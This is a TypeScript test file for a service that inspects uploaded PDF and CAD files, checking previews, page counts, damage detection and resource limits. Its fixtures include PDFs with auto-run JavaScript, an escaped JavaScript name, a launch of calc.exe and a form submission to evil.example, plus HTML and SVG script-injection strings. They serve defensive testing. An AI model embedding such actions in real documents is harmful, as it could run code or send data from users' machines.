import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { PDFDocument, StandardFonts } from "pdf-lib";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { openConverterService } from "../image/converter-service.ts";
import { packFiles } from "../image/packed-files.ts";
import { runConverter } from "../image/run-converter.ts";
import { inspectDocument, openInspector } from "./inspect-document.ts";

const UNKNOWN = { rejection: "Use a PDF, STEP, DXF, IGES or STL file." };
const DAMAGED = { rejection: "The file is damaged or incomplete. Save it again and upload the new file." };

const encode = (text: string): Uint8Array => Buffer.from(text, "latin1");

async function aPdf({ pages = 1, size = [595, 842] as [number, number] } = {}): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (let at = 0; at < pages; at += 1) {
    document.addPage(size).drawText("BW-1002", { x: 20, y: 20, size: 20, font });
  }
  return document.save();
}

/** A PDF of one page whose content stream is this, without a table of positions: readers rebuild it. */
const aPdfDrawing = (content: string, catalog = "", pages = 1): Uint8Array =>
  encode(
    `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[${"3 0 R ".repeat(pages)}]/Count ${pages}>>endobj\n` +
      `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n` +
      `4 0 obj<</Length ${content.length}>>stream\n${content}\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF`,
  );

/** A PDF that runs a script when it is opened; catalog and action are compressed. */
async function aPdfWithScript(): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  document.addPage();
  document.addJavaScript("start", "app.alert(1)");
  return document.save({ useObjectStreams: true });
}

describe("a PDF", () => {
  it("has its number of pages and a picture of the first one", async () => {
    const found = await inspectDocument(await aPdf({ pages: 3 }));
    if (!("preview" in found)) throw new Error(JSON.stringify(found));
    const { format, width, height } = await sharp(found.preview).metadata();
    expect([found.format, found.pages, format, width, height]).toEqual(["pdf", 3, "webp", 361, 512]);
    const { dominant } = await sharp(found.preview).stats();
    expect(dominant.r + dominant.g + dominant.b).toBeGreaterThan(700);
  });

  it("in colour has its colours in the picture", async () => {
    const found = await inspectDocument(aPdfDrawing("1 0 0 rg 0 0 595 842 re f"));
    if (!("preview" in found)) throw new Error(JSON.stringify(found));
    const { channels } = await sharp(found.preview).stats();
    expect(channels.slice(0, 3).map(({ mean }) => Math.round(mean / 64))).toEqual([4, 0, 0]);
  });

  it.each<[string, () => Uint8Array | Promise<Uint8Array>, string]>([
    ["cut off", async () => (await aPdf()).subarray(0, 300), DAMAGED.rejection],
    ["nothing but its first bytes", () => encode("%PDF-1.7\n"), DAMAGED.rejection],
    ["of too many pages", () => aPdfDrawing("", "", 2001), "The PDF has more than 2,000 pages. Split it."],
  ])("%s is rejected", async (_what, file, rejection) => {
    expect(await inspectDocument(await file())).toEqual({ rejection });
  });

  it.each<[string, () => Uint8Array | Promise<Uint8Array>]>([
    ["by its name", () => aPdfDrawing("", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>")],
    ["by an escaped name", () => aPdfDrawing("", "/OpenAction<</S/J#61vaScript/JS(app.alert(1))>>")],
    ["in a compressed object", async () => aPdfWithScript()],
    ["that starts a program", () => aPdfDrawing("", "/OpenAction<</S/Launch/F(calc.exe)>>")],
    ["that sends a form", () => aPdfDrawing("", "/OpenAction<</S/SubmitForm/F(https://evil.example)>>")],
  ])(
    "with an action %s is accepted like any other: such actions are not searched for",
    async (_what, file) => {
      expect(await inspectDocument(await file())).toMatchObject({ format: "pdf", pages: 1 });
    },
  );

  it("that never ends drawing is stopped, and the worker goes on", async () => {
    const heavy = aPdfDrawing("0 0 m 595 842 l 1 0 l S ".repeat(400_000));
    const limits = { cpuMs: 500, memoryBytes: 2 ** 31 };
    const found = await inspectDocument(heavy, (file) => runConverter(file, limits));
    expect(found).toEqual({
      rejection: "The PDF takes too long to process. Save it in a simpler form, e.g. printed to PDF.",
    });
  });

  it("that needs too much memory is stopped", async () => {
    const found = await inspectDocument(await aPdf(), (file) =>
      runConverter(file, { cpuMs: 60_000, memoryBytes: 1 }),
    );
    expect(found).toHaveProperty("rejection");
  });

  it("is read by the converter's server in the same way", async () => {
    const server = openConverterService(() => undefined).listen(0, "127.0.0.1");
    await once(server, "listening");
    const { port } = server.address() as AddressInfo;
    const file = await aPdf({ pages: 2 });
    expect(await openInspector(`tcp://127.0.0.1:${port}`)(file)).toEqual(await inspectDocument(file));
    server.close();
  });

  it.each([
    ["no picture", packFiles([Buffer.from("1"), Buffer.from("<script>")])],
    ["no number", packFiles([Buffer.from("NaN"), Buffer.from("x")])],
    ["one file", packFiles([Buffer.from("1")])],
    ["half a length", Buffer.from([0, 0])],
  ])("is not believed where a converter that it has taken over writes %s", async (_what, output) => {
    const convert = async () => ({ code: 0, output });
    await expect(inspectDocument(encode("%PDF-1.7"), convert)).rejects.toThrow(/converter wrote|incomplete/);
  });
});

const STEP = "ISO-10303-21;\nHEADER;\nENDSEC;\nDATA;\nENDSEC;\nEND-ISO-10303-21;\n";
const DXF = "  0\r\nSECTION\r\n  2\r\nENTITIES\r\n  0\r\nENDSEC\r\n  0\r\nEOF\r\n";
const iges = (padding: string): string =>
  ["S", "G", "D", "P", "T"]
    .map((section) => `${" ".repeat(72)}${section}${"1".padStart(7, padding)}\n`)
    .join("");
const IGES = iges(" ");
const PADDED_IGES = iges("0");
const STL =
  "solid bolt\n facet normal 0 0 1\n  outer loop\n   vertex 0 0 0\n   vertex 1 0 0\n   vertex 0 1 0\n  endloop\n endfacet\nendsolid bolt\n";

function aBinaryStl(triangles: number, header = "solid"): Uint8Array {
  const file = Buffer.alloc(84 + triangles * 50);
  file.write(header);
  file.writeUInt32LE(triangles, 80);
  return file;
}

describe("drawings and models", () => {
  it.each<[string, Uint8Array, string]>([
    ["STEP", encode(STEP), "step"],
    ["STEP with a mark of its encoding", encode(`\u00EF\u00BB\u00BF${STEP}`), "step"],
    ["DXF", encode(DXF), "dxf"],
    ["DXF with a comment", encode(`999\nmade by hand\n${DXF}`), "dxf"],
    ["DXF in binary", encode("AutoCAD Binary DXF\r\n\u001A\0\0SECTION\0EOF\0"), "dxf"],
    ["IGES", encode(IGES), "iges"],
    ["IGES with zero-padded lines", encode(PADDED_IGES), "iges"],
    ["STL", encode(STL), "stl"],
    ["STL in binary", aBinaryStl(3), "stl"],
  ])("%s is known by its content", async (_what, file, format) => {
    expect(await inspectDocument(file)).toEqual({ format });
  });

  it.each<[string, Uint8Array]>([
    ["STEP", encode(STEP.slice(0, -10))],
    ["DXF", encode(DXF.slice(0, -8))],
    ["IGES", encode(IGES.slice(0, -81))],
    ["IGES with zero-padded lines", encode(PADDED_IGES.slice(0, -81))],
    ["STL", encode(STL.slice(0, 80))],
  ])("%s that was cut off is rejected", async (_what, file) => {
    expect(await inspectDocument(file)).toEqual(DAMAGED);
  });

  it.each<[string, Uint8Array]>([
    ["a web page", encode("<!doctype html><script>alert(1)</script>")],
    ["a web page before a PDF", encode("<script>alert(1)</script>\n%PDF-1.7")],
    ["a drawing with scripts", encode("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")],
    ["a program", encode("MZ\u0090\0\u0003\0\0\0")],
    ["an archive", encode("PK\u0003\u0004")],
    ["STEP with binary data in it", encode(STEP.replace("DATA;", "DATA;\0"))],
    ["STL of another length", Buffer.concat([aBinaryStl(3), Buffer.alloc(1)])],
    ["one byte", encode("x")],
  ])("%s is rejected", async (_what, file) => {
    expect(await inspectDocument(file)).toEqual(UNKNOWN);
  });
});
